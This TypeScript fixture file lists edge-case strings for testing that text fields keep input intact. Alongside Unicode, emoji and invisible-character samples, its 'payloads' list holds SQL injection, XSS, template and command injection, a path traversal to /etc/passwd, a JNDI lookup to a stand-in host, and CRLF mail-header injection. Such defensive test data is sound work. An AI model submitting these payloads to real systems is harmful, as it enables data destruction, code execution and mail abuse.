/*
 * Strings that have broken forms before. Characters that cannot be seen are written as escapes.
 */

const payloads = [
  "'; DROP TABLE contact_submissions; --",
  "$$; select 1; $$",
  "%",
  "_",
  "\\",
  "\\u0041",
  "\\0",
  "</script><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "<!--",
  "]]>",
  "&lt;b&gt;",
  "&#0;",
  "javascript:alert(1)",
  "{{7*7}}",
  "${7*7}",
  "$(id)",
  "../../../../etc/passwd",
  "C:\\con\\con",
  "%s%s%s%s%n",
  "%00",
  "%0d%0a",
  "=1+1",
  "@SUM(1+1)",
  "${jndi:ldap://evil.example/a}",
  '{"$gt":""}',
  "[object Object]",
  "a[b]",
  "a=b&c=d",
  "a+b c%20d",
  "?x=1#y",
  "Subject: hello",
  "=?utf-8?B?eA==?=",
  ".",
  "--",
  "'",
  '"',
];

const words = [
  "undefined",
  "null",
  "NaN",
  "true",
  "hasOwnProperty",
  "__proto__",
  "constructor",
  "O'Brien",
  "Nguyễn Văn Ánh",
];

const numbers = [
  "0",
  "-1",
  "1e309",
  "0x0",
  "9007199254740993",
  "1,000.00",
  "08",
  "\u0661\u0662\u0663",
  "\uFF11\uFF12\uFF13",
];

const scripts = [
  "\u7530\u4E2D\u3055\u3093\u306B\u3042\u3052\u3066\u4E0B\u3055\u3044",
  "\u0645\u0631\u062D\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
  "\u05D1\u05B0\u05BC\u05E8\u05B5\u05D0\u05E9\u05B4\u05C1\u05D9\u05EA",
  "\u0928\u092E\u0938\u094D\u0924\u0947",
  "I\u0131 \u0130i",
  "\uFB01 \uFB03 \uFDFA",
  "\uFF21\uFF42\uFF43\uFF20\uFF45\uFF0E\uFF43\uFF4F\uFF4D",
  "\uFF1Cscript\uFF1E",
  "\u{1D4EA}\u{1D4EB}\u{1D4EC}",
  "\u{20BB7}\u{2A6D6}",
  "\u{10FFFD}\u{F0000}\uE000",
  "\uFFFE\uFFFF",
  "e\u0301 \u00E9",
  "\u1100\u1161\u11A8 \uAC01",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u036B\u0357\u0334\u0362",
  "\u0301x",
];

const emoji = [
  "\u{1F600}",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}",
  "\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}",
  "\u{1F1E7}\u{1F1F7}",
];

const marks = [
  "\u202Eevil\u202C",
  "\u2066abc\u2069",
  "\u200Eabc\u200F",
  "a\u200Bb",
  "a\u200Cb",
  "a\u00ADb",
  "a\uFEFFb",
  "a\u00A0b",
  "a\u2028b",
  "a\u0085b",
  "a\vb\fc",
  "a\tb",
  "a  b   c",
  "\u{E0001}a\u{E0041}",
  "\uFFF9a\uFFFAb\uFFFB",
  "x\u3164",
];

/** Of one line; a field of text has to keep every one of them as it is. */
export const plainStrings: readonly string[] = [
  ...new Set([...payloads, ...words, ...numbers, ...scripts, ...emoji, ...marks]),
  `${"Donaudampfschifffahrt".repeat(9)}s`,
  "\u{1F680}".repeat(200),
  "\u0301".repeat(199) + "e",
];

/** Of several lines; a field of one line makes spaces of the breaks. */
export const stringsWithLines: readonly string[] = [
  "one\r\ntwo",
  "one\rtwo",
  "one\n\n\ntwo",
  "a\r\nBcc: victim@engine.example\r\n\r\nhello",
  "a\r\n.\r\nQUIT",
  "one\n\ttwo\n  three",
];

/** Nothing in them that a reader would see. */
export const blankStrings: readonly string[] = [
  "",
  " ",
  "\r\n",
  "\u00A0",
  "\uFEFF",
  "\u200B\u200C\u200D",
  "\u2060\u00AD",
  "\u3164",
  "\u202E",
  "\u2028",
];

/** What no database, terminal or mail takes as text. Browsers send `\uFFFD` for halves of pairs. */
export const unreadableStrings: readonly string[] = [
  "\0",
  "a\0b",
  "a\u0007",
  "\u001B[31mred",
  "\u007F",
  "\u009B31m",
  "\uD800",
  "a\uDC00b",
  "\uFFFD",
];
